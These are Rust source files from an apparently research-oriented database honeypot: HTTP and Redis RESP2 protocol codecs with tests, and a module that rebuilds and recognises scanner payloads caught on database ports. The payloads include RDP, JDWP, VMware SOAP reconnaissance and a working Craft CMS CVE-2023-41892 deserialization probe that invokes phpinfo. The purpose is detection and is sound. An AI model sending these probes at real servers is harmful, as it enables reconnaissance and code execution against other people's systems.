/// Parse the head of an HTTP message, if complete.
fn parse_head(buf: &[u8]) -> NetResult<Option<ParsedHead>> {
    let Some(end) = find_double_crlf(buf) else {
        if buf.len() > MAX_HEADER_BYTES {
            return Err(herr(
                MAX_HEADER_BYTES,
                WireErrorKind::LengthOutOfRange {
                    declared: buf.len() as u64,
                    max: MAX_HEADER_BYTES as u64,
                },
            ));
        }
        return Ok(None);
    };
    let head = buf.get(..end).unwrap_or_default();
    let text =
        std::str::from_utf8(head).map_err(|e| herr(e.valid_up_to(), WireErrorKind::InvalidUtf8))?;
    let mut lines = text.split("\r\n");
    let start_line = lines
        .next()
        .ok_or_else(|| {
            herr(
                0,
                WireErrorKind::Malformed {
                    detail: "empty http head",
                },
            )
        })?
        .to_string();
    // decoy-lint: allow(alloc-vec) -- header names/values are inherently owned strings
    let mut headers = Vec::new();
    for line in lines {
        if line.is_empty() {
            continue;
        }
        let (name, value) = line.split_once(':').ok_or_else(|| {
            herr(
                0,
                WireErrorKind::Malformed {
                    detail: "header line without colon",
                },
            )
        })?;
        headers.push((name.trim().to_string(), value.trim().to_string()));
    }
    Ok(Some((start_line, headers, end + 4)))
}

fn find_double_crlf(buf: &[u8]) -> Option<usize> {
    buf.windows(4).position(|w| w == b"\r\n\r\n")
}

/// Extract and bound the body length. Applies the [`MAX_BODY_BYTES`] cap for
/// both codecs, so neither direction can be committed to buffering an
/// attacker-declared body size.
fn content_length(headers: &[(String, String)]) -> NetResult<usize> {
    for (k, v) in headers {
        if k.eq_ignore_ascii_case("content-length") {
            let declared = v.parse::<u64>().map_err(|_| {
                herr(
                    0,
                    WireErrorKind::Malformed {
                        detail: "bad content-length",
                    },
                )
            })?;
            return usize::try_from(declared)
                .ok()
                .filter(|&n| n <= MAX_BODY_BYTES.min(crate::MAX_FRAME))
                .ok_or_else(|| {
                    herr(
                        0,
                        WireErrorKind::LengthOutOfRange {
                            declared,
                            max: MAX_BODY_BYTES as u64,
                        },
                    )
                });
        }
        if k.eq_ignore_ascii_case("transfer-encoding") && v.to_ascii_lowercase().contains("chunked")
        {
            return Err(herr(
                0,
                WireErrorKind::Malformed {
                    detail: "chunked encoding unsupported",
                },
            ));
        }
    }
    Ok(0)
}

/// Server-side codec: decodes [`HttpRequest`], encodes [`HttpResponse`].
#[derive(Debug, Clone, Default)]
pub struct HttpServerCodec;

impl Codec for HttpServerCodec {
    type In = HttpRequest;
    type Out = HttpResponse;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<HttpRequest>> {
        let Some((start_line, headers, head_len)) = parse_head(buf)? else {
            return Ok(None);
        };
        let body_len = content_length(&headers)?;
        let total = head_len.checked_add(body_len).ok_or_else(|| {
            herr(
                0,
                WireErrorKind::LengthOutOfRange {
                    declared: body_len as u64,
                    max: MAX_BODY_BYTES as u64,
                },
            )
        })?;
        if buf.len() < total {
            return Ok(None);
        }
        let mut parts = start_line.split_whitespace();
        let method = parts
            .next()
            .ok_or_else(|| {
                herr(
                    0,
                    WireErrorKind::Malformed {
                        detail: "missing method",
                    },
                )
            })?
            .to_string();
        let target = parts
            .next()
            .ok_or_else(|| {
                herr(
                    0,
                    WireErrorKind::Malformed {
                        detail: "missing request target",
                    },
                )
            })?
            .to_string();
        let version = parts.next().unwrap_or("HTTP/1.0").to_string();
        buf.advance(head_len);
        let body = buf.split_to(body_len).freeze();
        Ok(Some(HttpRequest {
            method,
            target,
            version,
            headers,
            body,
        }))
    }

    fn encode(&mut self, resp: &HttpResponse, buf: &mut BytesMut) -> NetResult<()> {
        encode_response_head(resp, buf);
        buf.extend_from_slice(&resp.body);
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        MAX_HEADER_BYTES + MAX_BODY_BYTES
    }
}

/// Render the status line and headers of `resp` (through the terminating
/// blank line) into `buf`, without the body. Pairs with
/// `Framed::write_split` so honeypots send large canned bodies via
/// vectored I/O instead of copying them into the write buffer.
pub fn encode_response_head(resp: &HttpResponse, buf: &mut BytesMut) {
    let _ = write!(buf, "HTTP/1.1 {} {}\r\n", resp.status, resp.reason);
    for (k, v) in &resp.headers {
        let _ = write!(buf, "{k}: {v}\r\n");
    }
    buf.extend_from_slice(b"\r\n");
}

/// Client-side codec: encodes [`HttpRequest`], decodes [`HttpResponse`].
#[derive(Debug, Clone, Default)]
pub struct HttpClientCodec;

impl Codec for HttpClientCodec {
    type In = HttpResponse;
    type Out = HttpRequest;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<HttpResponse>> {
        let Some((start_line, headers, head_len)) = parse_head(buf)? else {
            return Ok(None);
        };
        let body_len = content_length(&headers)?;
        let total = head_len.checked_add(body_len).ok_or_else(|| {
            herr(
                0,
                WireErrorKind::LengthOutOfRange {
                    declared: body_len as u64,
                    max: MAX_BODY_BYTES as u64,
                },
            )
        })?;
        if buf.len() < total {
            return Ok(None);
        }
        let mut parts = start_line.splitn(3, ' ');
        let _version = parts.next().unwrap_or_default();
        let status = parts
            .next()
            .and_then(|s| s.parse::<u16>().ok())
            .ok_or_else(|| {
                herr(
                    0,
                    WireErrorKind::Malformed {
                        detail: "bad status line",
                    },
                )
            })?;
        let reason = parts.next().unwrap_or_default().to_string();
        buf.advance(head_len);
        let body = buf.split_to(body_len).freeze();
        Ok(Some(HttpResponse {
            status,
            reason,
            headers,
            body,
        }))
    }

    fn encode(&mut self, req: &HttpRequest, buf: &mut BytesMut) -> NetResult<()> {
        let _ = write!(buf, "{} {} {}\r\n", req.method, req.target, req.version);
        let mut has_length = false;
        for (k, v) in &req.headers {
            if k.eq_ignore_ascii_case("content-length") {
                has_length = true;
            }
            let _ = write!(buf, "{k}: {v}\r\n");
        }
        if !has_length && !req.body.is_empty() {
            let _ = write!(buf, "Content-Length: {}\r\n", req.body.len());
        }
        buf.extend_from_slice(b"\r\n");
        buf.extend_from_slice(&req.body);
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        MAX_HEADER_BYTES + MAX_BODY_BYTES
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn request_bytes(req: &HttpRequest) -> BytesMut {
        let mut codec = HttpClientCodec;
        let mut buf = BytesMut::new();
        codec.encode(req, &mut buf).unwrap();
        buf
    }

    #[test]
    fn get_request_roundtrip() {
        let req = HttpRequest::new("GET", "/_cluster/health?pretty");
        let mut buf = request_bytes(&req);
        let mut server = HttpServerCodec;
        let decoded = server.decode(&mut buf).unwrap().unwrap();
        assert_eq!(decoded.method, "GET");
        assert_eq!(decoded.path(), "/_cluster/health");
        assert_eq!(decoded.query(), Some("pretty"));
        assert_eq!(decoded.header("host"), Some("localhost"));
        assert!(buf.is_empty());
    }

    #[test]
    fn post_with_body_roundtrip() {
        let req = HttpRequest::new("POST", "/_search")
            .with_body("application/json", r#"{"query":{"match_all":{}}}"#);
        let mut buf = request_bytes(&req);
        let mut server = HttpServerCodec;
        let decoded = server.decode(&mut buf).unwrap().unwrap();
        assert_eq!(decoded.body_text(), r#"{"query":{"match_all":{}}}"#);
        assert_eq!(decoded.header("Content-Length"), Some("26"));
    }

    #[test]
    fn response_roundtrip() {
        let resp = HttpResponse::json(200, r#"{"cluster_name":"elasticsearch"}"#);
        let mut server = HttpServerCodec;
        let mut buf = BytesMut::new();
        server.encode(&resp, &mut buf).unwrap();
        let mut client = HttpClientCodec;
        let decoded = client.decode(&mut buf).unwrap().unwrap();
        assert_eq!(decoded.status, 200);
        assert_eq!(decoded.reason, "OK");
        assert_eq!(decoded.body_text(), r#"{"cluster_name":"elasticsearch"}"#);
    }

    #[test]
    fn partial_requests_wait() {
        let req = HttpRequest::new("POST", "/x").with_body("text/plain", "hello body");
        let full = request_bytes(&req);
        let mut server = HttpServerCodec;
        for cut in [3usize, 10, full.len() - 3] {
            let mut partial = BytesMut::from(&full[..cut]);
            assert!(server.decode(&mut partial).unwrap().is_none(), "cut {cut}");
        }
    }

    #[test]
    fn pipelined_requests_decode_one_at_a_time() {
        let a = request_bytes(&HttpRequest::new("GET", "/a"));
        let b = request_bytes(&HttpRequest::new("GET", "/b"));
        let mut buf = BytesMut::new();
        buf.extend_from_slice(&a);
        buf.extend_from_slice(&b);
        let mut server = HttpServerCodec;
        let first = server.decode(&mut buf).unwrap().unwrap();
        let second = server.decode(&mut buf).unwrap().unwrap();
        assert_eq!(first.target, "/a");
        assert_eq!(second.target, "/b");
    }

    #[test]
    fn malformed_inputs_error_not_panic() {
        let mut server = HttpServerCodec;
        let mut buf = BytesMut::from(&b"GET\r\n\r\n"[..]);
        assert!(server.decode(&mut buf).is_err()); // missing target
        let mut buf = BytesMut::from(&b"GET / HTTP/1.1\r\nBadHeader\r\n\r\n"[..]);
        assert!(server.decode(&mut buf).is_err());
        let mut buf = BytesMut::from(&b"GET / HTTP/1.1\r\nContent-Length: banana\r\n\r\n"[..]);
        assert!(server.decode(&mut buf).is_err());
        let mut buf = BytesMut::from(&b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"[..]);
        assert!(server.decode(&mut buf).is_err());
        let mut buf = BytesMut::from(&b"\xff\xfe / HTTP/1.1\r\n\r\n"[..]);
        assert!(server.decode(&mut buf).is_err());
    }

    #[test]
    fn declared_body_is_capped_in_both_directions() {
        // A hostile Content-Length must be refused before any buffering
        // commitment — on the client codec too (it used to be uncapped).
        let mut server = HttpServerCodec;
        let mut buf =
            BytesMut::from(&b"POST / HTTP/1.1\r\nContent-Length: 999999999999\r\n\r\n"[..]);
        assert!(server.decode(&mut buf).is_err());
        let mut client = HttpClientCodec;
        let mut buf = BytesMut::from(&b"HTTP/1.1 200 OK\r\nContent-Length: 999999999\r\n\r\n"[..]);
        let err = client.decode(&mut buf).unwrap_err();
        match err {
            NetError::Wire(w) => {
                assert_eq!(w.protocol, WireProtocol::Http);
                assert!(matches!(w.kind, WireErrorKind::LengthOutOfRange { .. }));
            }
            other => panic!("expected wire error, got {other:?}"),
        }
    }

    #[test]
    fn craftcms_probe_shape_parses() {
        // Listing 14 arrives as a POST form body against the HTTP honeypot.
        let body = "action=conditions/render&test[userCondition]=craft\\elements\\conditions\\users\\UserCondition";
        let req = HttpRequest::new("POST", "/index.php")
            .with_body("application/x-www-form-urlencoded", body);
        let mut buf = request_bytes(&req);
        let mut server = HttpServerCodec;
        let decoded = server.decode(&mut buf).unwrap().unwrap();
        assert!(decoded.body_text().contains("conditions/render"));
    }
}
