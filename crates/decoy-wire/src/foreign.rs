//! Foreign (non-database) payloads observed on database ports.
//!
//! The paper's honeypots received traffic that was never meant for a DBMS:
//! RDP connection requests (Listing 10), JDWP handshakes (Listing 11), and
//! VMware vSphere SOAP reconnaissance (Listing 12). This module provides
//! byte-exact builders for the agent side and recognizers for the analysis
//! side — when a Redis or PostgreSQL honeypot logs an undecodable blob, the
//! recognizers tell the classifier what the actor was actually scanning for.

use decoy_net::cursor::{sat_u16, sat_u8};

/// What a foreign payload turned out to be.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ForeignProtocol {
    /// Remote Desktop Protocol connection request (`Cookie: mstshash=`).
    Rdp,
    /// Java Debug Wire Protocol handshake.
    Jdwp,
    /// VMware vSphere SOAP reconnaissance (CVE-2021-22005 precursor).
    VmwareSoap,
    /// Craft CMS CVE-2023-41892 probe payload.
    CraftCms,
    /// TLS ClientHello thrown at a plaintext port.
    TlsClientHello,
}

impl ForeignProtocol {
    /// Stable label used in logs and cluster tags.
    pub fn label(&self) -> &'static str {
        match self {
            ForeignProtocol::Rdp => "rdp-scan",
            ForeignProtocol::Jdwp => "jdwp-scan",
            ForeignProtocol::VmwareSoap => "vmware-recon",
            ForeignProtocol::CraftCms => "craftcms-probe",
            ForeignProtocol::TlsClientHello => "tls-probe",
        }
    }
}

/// The RDP cookie line of Listing 10 wrapped in its X.224/TPKT connection
/// request, as mstshash scanners actually emit it.
pub fn rdp_connection_request(username: &str) -> Vec<u8> {
    let cookie = format!("Cookie: mstshash={username}\r\n");
    let x224_len = 6 + cookie.len() + 8; // CR header + cookie + negotiation req
    let total = 4 + 1 + x224_len;
    let mut out = Vec::with_capacity(total);
    // TPKT header
    out.push(0x03);
    out.push(0x00);
    out.extend_from_slice(&sat_u16(total).to_be_bytes());
    // X.224 connection request
    out.push(sat_u8(x224_len)); // length indicator
    out.push(0xe0); // CR CDT
    out.extend_from_slice(&[0x00, 0x00, 0x00, 0x00, 0x00]); // dst/src ref, class
    out.extend_from_slice(cookie.as_bytes());
    // RDP negotiation request (type 1, flags 0, len 8, protocols: TLS)
    out.extend_from_slice(&[0x01, 0x00, 0x08, 0x00, 0x01, 0x00, 0x00, 0x00]);
    out
}

/// The 14-byte JDWP handshake of Listing 11.
pub fn jdwp_handshake() -> Vec<u8> {
    b"JDWP-Handshake".to_vec()
}

/// The SOAP body of Listing 12: `RetrieveServiceContent` against VMware
/// vSphere, used to fingerprint hosts vulnerable to CVE-2021-22005.
pub fn vmware_soap_body() -> String {
    concat!(
        r#"<?xml version="1.0" encoding="UTF-8"?>"#,
        r#"<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" "#,
        r#"xmlns:vim25="urn:vim25">"#,
        r#"<soapenv:Body>"#,
        r#"<vim25:RetrieveServiceContent>"#,
        r#"<vim25:_this type="ServiceInstance">ServiceInstance</vim25:_this>"#,
        r#"</vim25:RetrieveServiceContent>"#,
        r#"</soapenv:Body>"#,
        r#"</soapenv:Envelope>"#
    )
    .to_string()
}

/// The Craft CMS CVE-2023-41892 probe body of Listing 14.
pub fn craftcms_probe_body() -> String {
    concat!(
        "action=conditions/render&test[userCondition]=",
        "craft\\elements\\conditions\\users\\UserCondition&config=",
        r#"{"name":"test[userCondition]","as xyz":{"class":"\\GuzzleHttp\\Psr7\\FnStream","#,
        r#""__construct()":[{"close":null}],"_fn_close":"phpinfo"}}"#
    )
    .to_string()
}

/// A minimal TLS 1.2 ClientHello (scanners often try TLS on every port).
pub fn tls_client_hello() -> Vec<u8> {
    let mut hello = vec![
        0x16, 0x03, 0x01, // handshake, TLS 1.0 record version
        0x00, 0x2f, // record length (47)
        0x01, // client hello
        0x00, 0x00, 0x2b, // handshake length (43)
        0x03, 0x03, // TLS 1.2
    ];
    hello.extend_from_slice(&[0xAB; 32]); // "random"
    hello.extend_from_slice(&[
        0x00, // session id length
        0x00, 0x02, 0x00, 0x2f, // one cipher suite
        0x01, 0x00, // null compression
        0x00, 0x00, // no extensions
    ]);
    hello
}

/// Identify a foreign protocol from the first bytes a honeypot captured.
pub fn recognize(payload: &[u8]) -> Option<ForeignProtocol> {
    if contains(payload, b"Cookie: mstshash=") {
        return Some(ForeignProtocol::Rdp);
    }
    if payload.starts_with(b"JDWP-Handshake") {
        return Some(ForeignProtocol::Jdwp);
    }
    if contains(payload, b"RetrieveServiceContent") {
        return Some(ForeignProtocol::VmwareSoap);
    }
    if contains(payload, b"conditions/render") && contains(payload, b"UserCondition") {
        return Some(ForeignProtocol::CraftCms);
    }
    if matches!(payload.first_chunk::<3>(), Some([0x16, 0x03, _])) {
        return Some(ForeignProtocol::TlsClientHello);
    }
    None
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len().max(1)).any(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rdp_request_matches_listing10() {
        let pkt = rdp_connection_request("Administr");
        assert_eq!(&pkt[..2], &[0x03, 0x00]); // TPKT
        assert_eq!(recognize(&pkt), Some(ForeignProtocol::Rdp));
        let text = String::from_utf8_lossy(&pkt);
        assert!(text.contains("Cookie: mstshash=Administr"));
        // declared TPKT length equals the packet length
        let declared = u16::from_be_bytes([pkt[2], pkt[3]]) as usize;
        assert_eq!(declared, pkt.len());
    }

    #[test]
    fn jdwp_recognized() {
        assert_eq!(recognize(&jdwp_handshake()), Some(ForeignProtocol::Jdwp));
        assert_eq!(jdwp_handshake().len(), 14);
    }

    #[test]
    fn vmware_soap_recognized() {
        let body = vmware_soap_body();
        assert!(body.contains("RetrieveServiceContent"));
        assert!(body.contains("ServiceInstance"));
        assert_eq!(
            recognize(body.as_bytes()),
            Some(ForeignProtocol::VmwareSoap)
        );
    }

    #[test]
    fn craftcms_probe_matches_listing14() {
        let body = craftcms_probe_body();
        assert!(body.contains("action=conditions/render"));
        assert!(body.contains("FnStream"));
        assert!(body.contains("phpinfo"));
        assert_eq!(recognize(body.as_bytes()), Some(ForeignProtocol::CraftCms));
    }

    #[test]
    fn tls_hello_recognized_and_bounded() {
        let hello = tls_client_hello();
        assert_eq!(recognize(&hello), Some(ForeignProtocol::TlsClientHello));
        // declared record length + 5-byte record header == packet length
        let rec_len = u16::from_be_bytes([hello[3], hello[4]]) as usize;
        assert_eq!(rec_len + 5, hello.len());
    }

    #[test]
    fn unknown_bytes_not_recognized() {
        assert_eq!(recognize(b"GET / HTTP/1.1"), None);
        assert_eq!(recognize(b""), None);
        assert_eq!(recognize(&[0x00, 0x01, 0x02]), None);
    }

    #[test]
    fn labels_are_stable() {
        assert_eq!(ForeignProtocol::Rdp.label(), "rdp-scan");
        assert_eq!(ForeignProtocol::Jdwp.label(), "jdwp-scan");
        assert_eq!(ForeignProtocol::VmwareSoap.label(), "vmware-recon");
        assert_eq!(ForeignProtocol::CraftCms.label(), "craftcms-probe");
        assert_eq!(ForeignProtocol::TlsClientHello.label(), "tls-probe");
    }
}
