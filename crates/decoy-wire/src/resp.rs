//! Redis RESP2 protocol (REdis Serialization Protocol).
//!
//! Implements the full RESP2 value grammar plus the *inline command* form
//! (bare text lines), which real Redis accepts and which several scanners in
//! the paper's dataset use (e.g. the JDWP probe of Listing 11 arrives as an
//! inline "command"). One [`RespCodec`] serves both directions: servers
//! decode client commands and encode replies; clients do the reverse.
//!
//! Parsing is total and index-free: every length an attacker declares is
//! range-checked against the codec's frame limit before any allocation, and
//! violations surface as [`decoy_net::WireError`] values carrying the byte
//! offset of the damage.

// decoy-hot-path: file -- per-value decode/encode, one call per wire message

use bytes::{Bytes, BytesMut};
use decoy_net::codec::Codec;
use decoy_net::error::{NetError, NetResult, WireError, WireErrorKind, WireProtocol};
use std::fmt::Write as _;

/// Nesting bound for arrays-of-arrays from hostile clients.
const MAX_DEPTH: u32 = 32;
/// Maximum declared element count for one array.
const MAX_ARRAY: i64 = 1 << 20;

/// A RESP2 value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RespValue {
    /// `+OK\r\n`
    Simple(String),
    /// `-ERR message\r\n`
    Error(String),
    /// `:42\r\n`
    Integer(i64),
    /// `$5\r\nhello\r\n` — the payload is a zero-copy view of the frame.
    Bulk(Bytes),
    /// `$-1\r\n`
    NullBulk,
    /// `*2\r\n...`
    Array(Vec<RespValue>),
    /// `*-1\r\n`
    NullArray,
    /// An inline command line (server-side decode only). Kept verbatim so
    /// honeypots can log exactly what was thrown at the port.
    Inline(String),
}

impl RespValue {
    /// Shorthand for a bulk string from text.
    pub fn bulk(s: impl AsRef<[u8]>) -> Self {
        RespValue::Bulk(Bytes::copy_from_slice(s.as_ref()))
    }

    /// Shorthand for a command array of bulk strings.
    pub fn command(parts: &[&str]) -> Self {
        RespValue::Array(parts.iter().map(RespValue::bulk).collect())
    }

    /// The bulk payload as UTF-8 text, if this is a bulk value.
    pub fn as_text(&self) -> Option<String> {
        match self {
            RespValue::Bulk(b) => Some(String::from_utf8_lossy(b).into_owned()),
            RespValue::Simple(s) | RespValue::Inline(s) => Some(s.to_owned()),
            _ => None,
        }
    }
}

/// A parsed client command: uppercased name plus raw arguments.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RedisCommand {
    /// Command name, normalized to uppercase (`SET`, `CONFIG`, ...).
    pub name: String,
    /// Arguments, verbatim — zero-copy views of the decoded frame.
    pub args: Vec<Bytes>,
}

impl RedisCommand {
    /// Argument `i` as lossy UTF-8 text.
    pub fn arg_text(&self, i: usize) -> Option<String> {
        self.args
            .get(i)
            .map(|a| String::from_utf8_lossy(a).into_owned())
    }

    /// Render the command the way the paper's logs render it
    /// (space-joined, lossy UTF-8).
    pub fn render(&self) -> String {
        let extra: usize = self.args.iter().map(|a| a.len().saturating_add(1)).sum();
        let mut out = String::with_capacity(self.name.len().saturating_add(extra));
        out.push_str(&self.name);
        for a in &self.args {
            out.push(' ');
            out.push_str(&String::from_utf8_lossy(a));
        }
        out
    }
}

/// Convert a decoded value into a command, accepting both array and inline
/// forms. Returns `None` for values that cannot be a command (e.g. integers).
pub fn as_command(value: &RespValue) -> Option<RedisCommand> {
    match value {
        RespValue::Array(items) => {
            // decoy-lint: allow(alloc-vec) -- one argument vector per decoded command
            let mut parts = Vec::with_capacity(items.len());
            for item in items {
                match item {
                    // Shares the frame bytes; no payload copy.
                    RespValue::Bulk(b) => parts.push(b.slice(..)),
                    RespValue::Simple(s) | RespValue::Inline(s) => {
                        parts.push(Bytes::copy_from_slice(s.as_bytes()))
                    }
                    _ => return None,
                }
            }
            if parts.is_empty() {
                return None;
            }
            let first = parts.remove(0);
            Some(RedisCommand {
                name: String::from_utf8_lossy(&first).to_uppercase(),
                args: parts,
            })
        }
        RespValue::Inline(line) => {
            let mut parts = line.split_whitespace();
            let name = parts.next()?.to_uppercase();
            Some(RedisCommand {
                name,
                args: parts
                    .map(|p| Bytes::copy_from_slice(p.as_bytes()))
                    .collect(),
            })
        }
        _ => None,
    }
}

/// RESP2 codec. `server_mode` enables inline-command decoding for lines that
/// do not start with a RESP type byte.
#[derive(Debug, Clone)]
pub struct RespCodec {
    server_mode: bool,
    max_frame: usize,
}

impl RespCodec {
    /// Codec for the server side of a connection (accepts inline commands).
    pub fn server() -> Self {
        RespCodec {
            server_mode: true,
            max_frame: (4 << 20).min(crate::MAX_FRAME),
        }
    }

    /// Codec for the client side of a connection.
    pub fn client() -> Self {
        RespCodec {
            server_mode: false,
            max_frame: (4 << 20).min(crate::MAX_FRAME),
        }
    }
}

/// Shorthand for a RESP wire error at `offset`.
fn rerr(offset: usize, kind: WireErrorKind) -> NetError {
    WireError::new(WireProtocol::Resp, offset, kind).into()
}

/// Find `\r\n` starting at `from`; return the index of `\r`.
fn find_crlf(buf: &[u8], from: usize) -> Option<usize> {
    let tail = buf.get(from..)?;
    tail.windows(2).position(|w| w == b"\r\n").map(|p| p + from)
}

/// Parse the decimal integer in `bytes` (RESP length/integer line), located
/// at `offset` in the frame for error reporting.
fn parse_int(bytes: &[u8], offset: usize) -> NetResult<i64> {
    let s = std::str::from_utf8(bytes).map_err(|_| rerr(offset, WireErrorKind::InvalidUtf8))?;
    s.trim().parse::<i64>().map_err(|_| {
        rerr(
            offset,
            WireErrorKind::Malformed {
                detail: "bad RESP integer",
            },
        )
    })
}

/// Measure pass: find the byte length of one complete RESP value at the
/// front of `buf`, validating lengths and nesting, without building
/// anything. Returns `None` if the frame is incomplete — so partial reads
/// cost zero allocations. The build pass ([`parse_value`]) then runs over
/// an exact frozen frame and shares payload bytes out of it.
fn measure_value(buf: &[u8], base: usize, depth: u32, max_bulk: usize) -> NetResult<Option<usize>> {
    if depth > MAX_DEPTH {
        return Err(rerr(
            base,
            WireErrorKind::NestingTooDeep { limit: MAX_DEPTH },
        ));
    }
    let Some(&type_byte) = buf.first() else {
        return Ok(None);
    };
    match type_byte {
        b'+' | b'-' | b':' => {
            let Some(end) = find_crlf(buf, 1) else {
                return Ok(None);
            };
            if type_byte == b':' {
                parse_int(buf.get(1..end).unwrap_or_default(), base + 1)?;
            }
            Ok(Some(end + 2))
        }
        b'$' => {
            let Some(end) = find_crlf(buf, 1) else {
                return Ok(None);
            };
            let declared = parse_int(buf.get(1..end).unwrap_or_default(), base + 1)?;
            let header = end + 2;
            if declared < 0 {
                return Ok(Some(header));
            }
            let len = usize::try_from(declared)
                .ok()
                .filter(|&n| n <= max_bulk)
                .ok_or_else(|| {
                    rerr(
                        base + 1,
                        WireErrorKind::LengthOutOfRange {
                            declared: u64::try_from(declared).unwrap_or(u64::MAX),
                            max: u64::try_from(max_bulk).unwrap_or(u64::MAX),
                        },
                    )
                })?;
            let total = header + len + 2;
            if buf.len() < total {
                return Ok(None);
            }
            if buf.get(header + len..total) != Some(&b"\r\n"[..]) {
                return Err(rerr(
                    base + header + len,
                    WireErrorKind::Malformed {
                        detail: "bulk string missing CRLF terminator",
                    },
                ));
            }
            Ok(Some(total))
        }
        b'*' => {
            let Some(end) = find_crlf(buf, 1) else {
                return Ok(None);
            };
            let declared = parse_int(buf.get(1..end).unwrap_or_default(), base + 1)?;
            let mut consumed = end + 2;
            if declared < 0 {
                return Ok(Some(consumed));
            }
            if declared > MAX_ARRAY {
                return Err(rerr(
                    base + 1,
                    WireErrorKind::TooManyElements {
                        limit: u64::try_from(MAX_ARRAY).unwrap_or(u64::MAX),
                    },
                ));
            }
            let n = usize::try_from(declared).unwrap_or(0);
            for _ in 0..n {
                let tail = buf.get(consumed..).unwrap_or_default();
                match measure_value(tail, base + consumed, depth + 1, max_bulk)? {
                    Some(used) => consumed += used,
                    None => return Ok(None),
                }
            }
            Ok(Some(consumed))
        }
        _ => Err(rerr(
            base,
            WireErrorKind::BadMagic {
                what: "RESP type byte",
            },
        )),
    }
}

/// Build pass over a complete, already-measured frame. `frame` is the
/// frozen frame and `buf` a subslice of it at absolute offset `base`, so
/// bulk payloads are shared out of `frame` without copying. Returns
/// `(value, consumed)`; `None`/validation errors can only occur if the two
/// passes disagree, which [`RespCodec::decode`] treats as malformed.
fn parse_value(
    frame: &Bytes,
    buf: &[u8],
    base: usize,
    depth: u32,
    max_bulk: usize,
) -> NetResult<Option<(RespValue, usize)>> {
    if depth > MAX_DEPTH {
        return Err(rerr(
            base,
            WireErrorKind::NestingTooDeep { limit: MAX_DEPTH },
        ));
    }
    let Some(&type_byte) = buf.first() else {
        return Ok(None);
    };
    match type_byte {
        b'+' | b'-' | b':' => {
            let Some(end) = find_crlf(buf, 1) else {
                return Ok(None);
            };
            let body = buf.get(1..end).unwrap_or_default();
            let consumed = end + 2;
            let v = match type_byte {
                b'+' => RespValue::Simple(String::from_utf8_lossy(body).into_owned()),
                b'-' => RespValue::Error(String::from_utf8_lossy(body).into_owned()),
                _ => RespValue::Integer(parse_int(body, base + 1)?),
            };
            Ok(Some((v, consumed)))
        }
        b'$' => {
            let Some(end) = find_crlf(buf, 1) else {
                return Ok(None);
            };
            let declared = parse_int(buf.get(1..end).unwrap_or_default(), base + 1)?;
            let header = end + 2;
            if declared < 0 {
                return Ok(Some((RespValue::NullBulk, header)));
            }
            let len = usize::try_from(declared)
                .ok()
                .filter(|&n| n <= max_bulk)
                .ok_or_else(|| {
                    rerr(
                        base + 1,
                        WireErrorKind::LengthOutOfRange {
                            declared: u64::try_from(declared).unwrap_or(u64::MAX),
                            max: u64::try_from(max_bulk).unwrap_or(u64::MAX),
                        },
                    )
                })?;
            let total = header + len + 2;
            if buf.len() < total {
                return Ok(None);
            }
            let payload = buf.get(header..header + len).unwrap_or_default();
            Ok(Some((RespValue::Bulk(frame.slice_ref(payload)), total)))
        }
        b'*' => {
            let Some(end) = find_crlf(buf, 1) else {
                return Ok(None);
            };
            let declared = parse_int(buf.get(1..end).unwrap_or_default(), base + 1)?;
            let mut consumed = end + 2;
            if declared < 0 {
                return Ok(Some((RespValue::NullArray, consumed)));
            }
            if declared > MAX_ARRAY {
                return Err(rerr(
                    base + 1,
                    WireErrorKind::TooManyElements {
                        limit: u64::try_from(MAX_ARRAY).unwrap_or(u64::MAX),
                    },
                ));
            }
            let n = usize::try_from(declared).unwrap_or(0);
            // decoy-lint: allow(alloc-vec) -- decoded array elements; count validated by the measure pass
            let mut items = Vec::with_capacity(n.min(64));
            for _ in 0..n {
                let tail = buf.get(consumed..).unwrap_or_default();
                match parse_value(frame, tail, base + consumed, depth + 1, max_bulk)? {
                    Some((item, used)) => {
                        items.push(item);
                        consumed += used;
                    }
                    None => return Ok(None),
                }
            }
            Ok(Some((RespValue::Array(items), consumed)))
        }
        _ => Err(rerr(
            base,
            WireErrorKind::BadMagic {
                what: "RESP type byte",
            },
        )),
    }
}

impl Codec for RespCodec {
    type In = RespValue;
    type Out = RespValue;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<RespValue>> {
        let Some(&first) = buf.first() else {
            return Ok(None);
        };
        // Inline commands: anything not starting with a RESP type byte.
        let is_resp = matches!(first, b'+' | b'-' | b':' | b'$' | b'*');
        if self.server_mode && !is_resp {
            let Some(pos) = buf.iter().position(|&b| b == b'\n') else {
                return Ok(None);
            };
            let mut line = buf.split_to(pos + 1);
            line.truncate(pos);
            if line.last() == Some(&b'\r') {
                line.truncate(line.len().saturating_sub(1));
            }
            return Ok(Some(RespValue::Inline(
                String::from_utf8_lossy(&line).into_owned(),
            )));
        }
        let Some(consumed) = measure_value(buf, 0, 0, self.max_frame)? else {
            return Ok(None);
        };
        // The measure pass fixed the exact frame length; detach it as a
        // shared view and build values whose bulk payloads borrow from it.
        let frame = buf.split_to(consumed).freeze();
        match parse_value(&frame, frame.as_ref(), 0, 0, self.max_frame)? {
            Some((value, _)) => Ok(Some(value)),
            None => Err(rerr(
                0,
                WireErrorKind::Malformed {
                    detail: "frame incomplete after measurement",
                },
            )),
        }
    }

    fn encode(&mut self, frame: &RespValue, buf: &mut BytesMut) -> NetResult<()> {
        encode_value(frame, buf);
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        self.max_frame
    }
}

fn encode_value(v: &RespValue, buf: &mut BytesMut) {
    match v {
        RespValue::Simple(s) => {
            buf.extend_from_slice(b"+");
            buf.extend_from_slice(s.as_bytes());
            buf.extend_from_slice(b"\r\n");
        }
        RespValue::Error(s) => {
            buf.extend_from_slice(b"-");
            buf.extend_from_slice(s.as_bytes());
            buf.extend_from_slice(b"\r\n");
        }
        RespValue::Integer(i) => {
